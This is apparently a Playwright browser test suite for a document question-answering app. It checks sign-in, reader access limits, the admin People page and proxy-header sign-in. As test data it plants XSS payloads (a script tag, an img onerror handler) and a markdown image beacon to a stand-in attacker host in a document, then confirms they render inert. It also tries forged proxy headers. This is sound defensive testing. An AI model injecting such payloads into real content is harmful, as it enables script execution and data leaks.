"""The team features as people meet them, in a real browser: accounts and passwords, a reader who
may read one collection and nothing else, untrusted document text shown inert, the admin's People
page, and sign-in through a single-sign-on proxy's header.

The store is set up as an administrator would, with the command line (`ragapp users add`,
`ragapp grant`, `ingest --collection`), then `streamlit run ui/app.py` serves it with
RAGAPP_SIGN_IN=accounts (and, for the last test, a second app on the same store with
RAGAPP_SIGN_IN=proxy). Headless Chromium (Debian's, /usr/bin/chromium) drives it through Playwright.
Screenshots are kept in test-artifacts/browser/team-*.png."""

from __future__ import annotations

import re
import shutil
import subprocess
from pathlib import Path

import pytest
from conftest import ROOT, SAMPLE

from browser.harness import CHROMIUM, NO_CHROMIUM, browser, serve, shot, stop, wait_for  # noqa: F401 (fixture)
from integration.helpers import BIN, cli_env

pytestmark = [pytest.mark.integration, pytest.mark.browser]

if not CHROMIUM.exists():
    pytest.skip(NO_CHROMIUM, allow_module_level=True)

BOSS, BOSS_PASSWORD = "boss", "boss-passphrase-1"
RITA, RITA_PASSWORD = "rita", "rita-passphrase-2"

SECRET = "# Acquisition\n\nThe board plans to acquire Zephyr Corp for 12 million euros in March.\n"
SECRET_QUESTION = "How much will the board pay to acquire Zephyr Corp?"

# Hostile text in a document's heading and body: live HTML, an image that reports to an outside
# server, a link to it. Shown inert, each must appear as the characters it is, and do nothing.
SCRIPT = "<script>window.__pwned=1</script>"
IMG = '<img src=x onerror="window.__pwned=2">'
BEACON = "![x](http://attacker.invalid/leak.png?q=secret)"
LINK = "[the menu](http://attacker.invalid/menu)"
TRAP = (
    f"# Canteen {SCRIPT} {IMG} {BEACON}\n\n"
    f"The canteen opens at 7:15 every weekday and serves breakfast until 9:30. {SCRIPT} {IMG} {BEACON}\n"
    f"See {LINK} for the dishes of the week.\n\n"
    "Lunch in the canteen is served from 12:00 to 14:00.\n"
)
CANTEEN_QUESTION = "What time does the canteen open every weekday?"

# Streamlit's own requests when a sub-page URL (/people) is opened directly: the client asks for
# /people/_stcore/health and /people/_stcore/host-config first and gets 404s. Not the app's doing.
SUBPAGE_404 = re.compile(r"/(people|settings|documents|ask)/(_stcore/)?(health|host-config)$")


# --- the store, set up with the command line ---------------------------------------------------


def _cli(store: Path, *args: str, stdin: str | None = None, timeout: int = 600) -> str:
    done = subprocess.run(
        [str(BIN / args[0]), *args[1:]], cwd=ROOT, env=cli_env(store), input=stdin,
        capture_output=True, text=True, timeout=timeout,
    )
    assert done.returncode == 0, f"{' '.join(args)} failed ({done.returncode}):\n{done.stdout}\n{done.stderr}"
    return done.stdout


@pytest.fixture(scope="module")
def team_store(tmp_path_factory) -> Path:
    """Two collections (handbook: the sample documents and trap.md; secret-plans: one board
    document), boss (admin), rita (reader of handbook only)."""
    home = tmp_path_factory.mktemp("team")
    store = home / "store"
    handbook = home / "handbook"
    shutil.copytree(SAMPLE, handbook)
    (handbook / "trap.md").write_text(TRAP, encoding="utf-8")
    plans = home / "secret-plans"
    plans.mkdir()
    (plans / "acquisition.md").write_text(SECRET, encoding="utf-8")

    assert "added boss as admin" in _cli(store, "ragapp", "users", "add", BOSS, "--role", "admin", "--password-stdin", stdin=BOSS_PASSWORD + "\n")
    assert "added rita as reader" in _cli(store, "ragapp", "users", "add", RITA, "--role", "reader", "--password-stdin", stdin=RITA_PASSWORD + "\n")
    _cli(store, "ingest", "--collection", "handbook", str(handbook))
    _cli(store, "ingest", "--collection", "secret-plans", str(plans))
    _cli(store, "ragapp", "grant", RITA, "handbook", "read")
    listed = _cli(store, "ragapp", "users", "list")
    assert re.search(r"rita\treader\thandbook:read\n", listed), listed
    assert "trap.md" in _cli(store, "ragapp", "documents", "--collection", "handbook")
    assert "acquisition.md" in _cli(store, "ragapp", "documents", "--collection", "secret-plans")
    return store


@pytest.fixture(scope="module")
def app_url(team_store):
    log_path = team_store.parent / "streamlit-accounts.log"
    server, url, log = serve(team_store, log_path, RAGAPP_SIGN_IN="accounts")
    yield url
    stop(server, log, log_path)


PROXY_SECRET = "a-long-random-secret-the-proxy-sends"


@pytest.fixture(scope="module")
def proxy_url(team_store):
    log_path = team_store.parent / "streamlit-proxy.log"
    # As the README's recipe runs it: from the proxy's address (this machine) and with its secret.
    server, url, log = serve(
        team_store, log_path, RAGAPP_SIGN_IN="proxy", RAGAPP_PROXY_ADDRESSES="127.0.0.1,::1", RAGAPP_PROXY_SECRET=PROXY_SECRET
    )
    yield url
    stop(server, log, log_path)


# --- a browser tab that remembers what it did --------------------------------------------------


class Tab:
    """A fresh browser context and page recording console errors, requests and failed responses."""

    def __init__(self, browser, **context_args) -> None:
        self.context = browser.new_context(viewport={"width": 1300, "height": 1000}, **context_args)
        self.page = self.context.new_page()
        self.console_errors: list[tuple[str, str]] = []  # (text, url of the resource it is about)
        self.requests: list[str] = []
        self.page.on("console", self._console)
        self.page.on("pageerror", lambda e: self.console_errors.append((str(e), "")))
        # Every request of the context: a link that opens a new tab is caught too.
        self.context.on("request", lambda r: self.requests.append(r.url))

    def _console(self, message) -> None:
        if message.type == "error":
            self.console_errors.append((message.text, (message.location or {}).get("url", "")))

    def unexpected_console_errors(self) -> list[tuple[str, str]]:
        return [
            (text, url) for text, url in self.console_errors
            if not (text.startswith("Failed to load resource") and "404" in text and SUBPAGE_404.search(url.split("?")[0]))
        ]

    def close(self) -> None:
        self.context.close()


@pytest.fixture
def tabs(browser):
    """Opens tabs on demand; closes them after the test."""
    opened: list[Tab] = []

    def open_tab(**context_args) -> Tab:
        tab = Tab(browser, **context_args)
        opened.append(tab)
        return tab

    yield open_tab
    for tab in opened:
        tab.close()


def _shot(page, name: str) -> Path:
    return shot(page, f"team-{name}", full_page=True)


def _text(page) -> str:
    return page.locator("body").inner_text()


def _unseen_removed(text: str) -> str:
    """The text as a person reads it: without zero-width characters (which a fix may use to keep
    a URL in a document from becoming a link)."""
    return re.sub("[\u200b\u200c\u200d\u2060\ufeff]", "", text)


def _main(page):
    """The main column (the page's content, beside the sidebar and above the chat input)."""
    return page.locator("[data-testid='stMainBlockContainer']")


def _sidebar(page) -> str:
    sidebar = page.locator("[data-testid='stSidebar']")
    return sidebar.inner_text() if sidebar.count() else ""


def _open_sign_in(page, url: str) -> None:
    page.goto(url, timeout=120_000)
    page.get_by_role("button", name="Sign in").wait_for(timeout=180_000)  # the first load warms the models


def _submit_sign_in(page, name: str, password: str) -> None:
    page.get_by_label("Name", exact=True).fill(name)
    page.get_by_label("Password", exact=True).fill(password)
    page.get_by_role("button", name="Sign in").click()


def _sign_in(page, url: str, name: str, password: str) -> None:
    _open_sign_in(page, url)
    _submit_sign_in(page, name, password)
    wait_for(lambda: "Signed in as" in _sidebar(page), f"{name} to be signed in")
    _idle(page)


def _idle(page) -> None:
    wait_for(lambda: page.locator("[data-testid='stStatusWidget']").count() == 0, "the app to be idle", 60)
    page.wait_for_timeout(300)


def _ask(page, question: str) -> str:
    """Ask on the Ask page; the finished answer's text (the line on how it was made, then its
    Details toggle, are the last things drawn)."""
    before = page.locator("[data-testid='stChatMessage']").count()
    page.locator("textarea").fill(question)
    page.keyboard.press("Enter")

    def finished():
        messages = page.locator("[data-testid='stChatMessage']")
        if messages.count() >= before + 2:
            text = messages.nth(before + 1).inner_text()
            return re.search(r"Quoted from the passages|Declined: nothing in the documents", text) and "Details" in text and text
        return False

    answer = wait_for(finished, f"the answer to {question!r}", within_s=300, every_s=0.2)
    _idle(page)
    return answer


def _change_address(page, path: str) -> None:
    """Go to /<path> in the same tab and session, as the browser's back and forward buttons do
    (loading the address anew would start a new session, signed out)."""
    page.evaluate(
        "path => { history.pushState({}, '', '/' + path); window.dispatchEvent(new PopStateEvent('popstate')); }", path
    )
    page.wait_for_timeout(1500)
    _idle(page)


def _nav_links(page) -> list[str]:
    """The titles of the navigation's links (each link's text is its icon's name, then its title)."""
    return [t.strip().splitlines()[-1] for t in page.locator("[data-testid='stSidebarNav'] a").all_inner_texts()]


def _delete_buttons(page):
    """The sidebar's per-document delete buttons (st.button key delete-<doc id>)."""
    return page.locator("[data-testid='stSidebar'] [class*='st-key-delete-'] button")


# --- the tests ---------------------------------------------------------------------------------


def test_a_wrong_password_is_refused_and_the_right_one_signs_in(app_url, tabs):
    tab = tabs()
    page = tab.page
    _open_sign_in(page, app_url)
    assert page.locator("textarea").count() == 0  # nothing to ask before signing in
    _submit_sign_in(page, RITA, RITA_PASSWORD + "x")
    wait_for(lambda: "Wrong name or password." in _text(page), "the refusal")
    _idle(page)
    _shot(page, "1-wrong-password")
    assert page.locator("textarea").count() == 0
    assert "Signed in as" not in _text(page)
    assert "Ask your documents" not in _text(page)
    assert page.get_by_role("button", name="Sign in").count() == 1  # still at the door

    _submit_sign_in(page, RITA, RITA_PASSWORD)
    wait_for(lambda: "Signed in as rita (reader)" in _sidebar(page), "rita signed in")
    page.locator("textarea").wait_for(timeout=60_000)
    assert "Wrong name or password." not in _text(page)
    _shot(page, "2-signed-in")
    assert tab.unexpected_console_errors() == []


def test_a_reader_cannot_upload_delete_manage_or_read_another_collection(app_url, tabs):
    tab = tabs()
    page = tab.page
    _sign_in(page, app_url, RITA, RITA_PASSWORD)
    page.locator("textarea").wait_for(timeout=60_000)
    sidebar = _sidebar(page)
    assert "Signed in as rita (reader)" in sidebar
    # One collection to read: named, with no picker offering others.
    assert "Collection: handbook" in sidebar, sidebar
    assert page.locator("[data-testid='stSelectbox']").filter(has_text="Collection").count() == 0
    # Reading yes (the handbook's documents are listed), writing no.
    assert "trap.md" in sidebar and "leave-policy.md" in sidebar, sidebar
    assert page.locator("[data-testid='stFileUploader']").count() == 0
    assert "Add documents" not in sidebar
    assert _delete_buttons(page).count() == 0
    assert _nav_links(page) == ["Ask", "Documents"], _nav_links(page)
    assert page.get_by_role("link", name="People").count() == 0
    assert page.get_by_role("link", name="Settings").count() == 0
    _shot(page, "3-reader")

    # The Documents page: the list, without upload or delete.
    page.get_by_role("link", name="Documents").click()
    main = _main(page)
    wait_for(lambda: "Documents of handbook" in main.inner_text(), "the documents page")
    _idle(page)
    assert "Click a column title to sort." in main.inner_text()
    assert "select rows to delete" not in main.inner_text()
    assert page.locator("[data-testid='stFileUploader']").count() == 0
    assert page.get_by_role("button", name=re.compile("^Delete")).count() == 0
    _shot(page, "4-reader-documents")

    # The question whose answer sits only in secret-plans: nothing of it comes back.
    page.get_by_role("link", name="Ask").click()
    page.locator("textarea").wait_for(timeout=60_000)
    _idle(page)
    answer = _ask(page, SECRET_QUESTION)
    shown = _text(page)
    assert "12 million" not in shown, answer
    assert "Zephyr Corp for" not in shown, answer
    assert "acquisition.md" not in shown and "secret-plans" not in shown, shown
    _shot(page, "5-reader-asks-secret")
    assert tab.unexpected_console_errors() == [], tab.console_errors

    # The admin pages by their address, typed into the signed-in tab...
    for path in ("people", "settings"):
        _change_address(page, path)
        shown = _text(page)
        assert "Signed in as rita (reader)" in shown
        assert "People and access" not in shown and "Add someone" not in shown, shown
        assert "RAGAPP_TOP_K" not in shown and "Models and store" not in shown, shown
        assert "secret-plans" not in shown
    _shot(page, "6-reader-changes-address")
    assert tab.unexpected_console_errors() == [], tab.console_errors
    # ...or opened in a new tab (a new session, which signs in first): never shown either.
    for path in ("people", "settings"):
        direct = tabs()
        _sign_in(direct.page, f"{app_url}/{path}", RITA, RITA_PASSWORD)
        direct.page.wait_for_timeout(1500)
        _idle(direct.page)
        shown = _text(direct.page)
        assert "Signed in as rita (reader)" in shown
        assert "People and access" not in shown, shown
        assert "RAGAPP_TOP_K" not in shown and "Models and store" not in shown, shown
        assert "Add someone" not in shown and "Give access to a collection" not in shown
        assert "secret-plans" not in shown
        _shot(direct.page, f"7-reader-opens-{path}")
        assert direct.unexpected_console_errors() == [], direct.console_errors


def test_hostile_document_text_is_shown_inert(app_url, tabs):
    tab = tabs()
    page = tab.page
    _sign_in(page, app_url, RITA, RITA_PASSWORD)
    page.locator("textarea").wait_for(timeout=60_000)
    # The file list shows the document; its heading is not run as HTML there either.
    assert "trap.md" in _sidebar(page)
    _ask(page, CANTEEN_QUESTION)
    assistant = page.locator("[data-testid='stChatMessage']").last
    summaries = assistant.locator("[data-testid='stExpander'] summary")
    labels = summaries.all_inner_texts()
    assert any("trap.md" in label for label in labels), labels  # the hostile document was retrieved
    for i in range(summaries.count()):
        # On the chevron, at the label's left edge: the label's own text is the document's.
        summaries.nth(i).click(position={"x": 12, "y": 12})
        page.wait_for_timeout(300)
    assert page.url.startswith(app_url), page.url  # still in the app
    _idle(page)
    assert all(
        d.evaluate("el => el.open") for d in assistant.locator("[data-testid='stExpander'] details").all()
    ), "every source is open"
    _shot(page, "8-inert-sources")

    shown = _unseen_removed(_main(page).inner_text())
    assert "7:15" in shown, shown  # the passage itself is there to read
    # Shown as the characters they are...
    assert "<script>" in shown, shown
    assert "![x]" in shown, shown
    trap_label = _unseen_removed(next(label for label in labels if "trap.md" in label))
    assert SCRIPT in trap_label and BEACON in trap_label, trap_label  # the heading, in the source's label
    # ...and doing nothing, in the page and in any frame of it: no script ran, no element the
    # document brought is live (its image, its link), nothing was fetched from anywhere else.
    problems = []
    for frame in page.frames:
        found = frame.evaluate(
            """() => ({
                pwned: typeof window.__pwned,
                scripts: [...document.querySelectorAll('script')].filter(s => s.textContent.includes('__pwned')).length,
                images: [...document.querySelectorAll('img')].filter(i => (i.getAttribute('src') || '').includes('attacker')
                                                                       || i.getAttribute('src') === 'x').length,
                links: [...document.querySelectorAll('a')].filter(a => (a.getAttribute('href') || '').includes('attacker'))
                           .map(a => (a.closest('[data-testid=stExpander] summary') ? 'in a source label: ' : 'in a source: ') + a.outerHTML),
                onerror: document.querySelectorAll('[onerror]').length,
            })"""
        )
        if found != {"pwned": "undefined", "scripts": 0, "images": 0, "links": [], "onerror": 0}:
            problems.append((frame.url, found))
    problems += [f"request to {u}" for u in tab.requests if "attacker" in u]
    problems += [f"request for <img src=x>: {u}" for u in tab.requests if u.split("?")[0].endswith("/x")]
    problems += [
        f"request outside this machine: {u}" for u in tab.requests
        if not re.match(r"(https?|wss?)://(localhost|127\.0\.0\.1)(:\d+)?/", u) and not u.startswith(("data:", "blob:"))
    ]
    assert problems == [], "\n".join(map(str, problems))
    assert tab.unexpected_console_errors() == [], tab.console_errors


def test_the_admin_sees_and_opens_the_people_page(app_url, tabs):
    tab = tabs()
    page = tab.page
    _sign_in(page, app_url, BOSS, BOSS_PASSWORD)
    page.locator("textarea").wait_for(timeout=60_000)
    assert "Signed in as boss (admin)" in _sidebar(page)
    assert _nav_links(page) == ["Ask", "Documents", "Settings", "People"], _nav_links(page)
    # The controls a reader lacks are there for the admin (so their absence above means something).
    collection = page.locator("[data-testid='stSidebar'] [data-testid='stSelectbox']").filter(has_text="Collection")
    assert collection.count() == 1
    collection.click()
    options = page.locator("[role='option']").all_inner_texts()
    assert "secret-plans" in options and "handbook" in options, options
    page.get_by_role("option", name="handbook", exact=True).click()
    wait_for(lambda: "trap.md" in _sidebar(page), "the handbook's documents")
    _idle(page)
    assert page.locator("[data-testid='stSidebar'] [data-testid='stFileUploader']").count() == 1
    assert _delete_buttons(page).count() >= 2
    _shot(page, "9-admin")

    page.get_by_role("link", name="People").click()
    main = _main(page)
    wait_for(lambda: "People and access" in main.inner_text(), "the People page")
    _idle(page)
    # The people table is drawn on a canvas; its cells are in the grid's accessible table too.
    tables = page.locator("[data-testid='stDataFrame']")
    wait_for(lambda: tables.count() == 2, "the people table and the audit log")
    table, audit = tables.nth(0), tables.nth(1)
    cells = wait_for(lambda: table.locator("[role='gridcell']").all_inner_texts(), "the people table's cells")
    assert cells[cells.index("rita"):][:3] == ["rita", "reader", "handbook (read)"], cells
    assert cells[cells.index("boss"):][:3] == ["boss", "admin", "all"], cells
    # ...and what she may read is offered to take away.
    revoke = page.locator("[data-testid='stSelectbox']").filter(has_text="Grant").locator("input")
    assert revoke.input_value() == "rita: handbook (read)"
    # The audit log, newest first: boss's own sign-in is the latest thing that happened.
    assert "Audit log" in main.inner_text()
    logged = wait_for(lambda: audit.locator("[role='gridcell']").all_inner_texts(), "the audit log's cells")
    assert logged[1:4] == ["boss", "sign-in", "boss"], logged[:8]
    _shot(page, "10-people")
    assert tab.unexpected_console_errors() == [], tab.console_errors

    # The admin pages by their address, as the reader tried: the admin gets them.
    _change_address(page, "ask")
    wait_for(lambda: "Ask your documents" in main.inner_text(), "the Ask page by its address")
    _change_address(page, "settings")
    wait_for(lambda: "RAGAPP_TOP_K" in main.inner_text(), "the Settings page by its address")
    _change_address(page, "people")
    wait_for(lambda: "People and access" in main.inner_text(), "the People page by its address")
    _shot(page, "11-people-by-address")

    # The question the reader asked in vain reaches the secret document for someone who may read it.
    page.get_by_role("link", name="Ask").click()
    page.locator("textarea").wait_for(timeout=60_000)
    collection.click()
    page.get_by_role("option", name="secret-plans", exact=True).click()
    wait_for(lambda: "acquisition.md" in _sidebar(page), "the secret-plans documents")
    _idle(page)
    answer = _ask(page, SECRET_QUESTION)
    assert "acquisition.md" in answer, answer
    _shot(page, "12-admin-asks-secret")
    assert tab.unexpected_console_errors() == [], tab.console_errors


def test_the_proxy_header_signs_in_and_without_it_nobody_is(proxy_url, tabs):
    named = tabs(extra_http_headers={"X-Forwarded-User": RITA, "X-Ragapp-Proxy-Secret": PROXY_SECRET})
    named.page.goto(proxy_url, timeout=120_000)
    wait_for(lambda: "Signed in as rita (reader)" in _sidebar(named.page), "rita signed in by the proxy's header", 180)
    named.page.locator("textarea").wait_for(timeout=60_000)
    assert "Collection: handbook" in _sidebar(named.page)
    assert named.page.get_by_role("button", name="Sign out").count() == 0  # the proxy signs people out
    assert named.page.get_by_role("link", name="People").count() == 0
    _shot(named.page, "13-proxy-rita")
    assert named.unexpected_console_errors() == [], named.console_errors

    anonymous = tabs(extra_http_headers={"X-Ragapp-Proxy-Secret": PROXY_SECRET})  # the proxy named nobody
    anonymous.page.goto(proxy_url, timeout=120_000)
    wait_for(lambda: "did not name anyone" in _text(anonymous.page), "the proxy refusal", 180)
    _idle(anonymous.page)
    assert "X-Forwarded-User" in _text(anonymous.page)
    assert anonymous.page.locator("textarea").count() == 0
    assert "Signed in as" not in _text(anonymous.page)
    assert anonymous.page.get_by_role("button", name="Sign in").count() == 0  # no password way round it
    _shot(anonymous.page, "14-proxy-nobody")

    # A browser that reaches the app around the proxy, naming an admin: no secret, refused.
    around = tabs(extra_http_headers={"X-Forwarded-User": "boss"})
    around.page.goto(proxy_url, timeout=120_000)
    wait_for(lambda: "Sign-in through the proxy refused" in _text(around.page), "the refusal without the secret", 180)
    assert "does not hold the proxy's secret" in _text(around.page)
    assert around.page.locator("textarea").count() == 0 and "Signed in as" not in _text(around.page)

    stranger = tabs(extra_http_headers={"X-Forwarded-User": "mallory", "X-Ragapp-Proxy-Secret": PROXY_SECRET})  # no account here
    stranger.page.goto(proxy_url, timeout=120_000)
    wait_for(lambda: "did not name anyone" in _text(stranger.page), "the refusal of an unknown name", 180)
    assert stranger.page.locator("textarea").count() == 0
    assert anonymous.unexpected_console_errors() == [] and stranger.unexpected_console_errors() == []
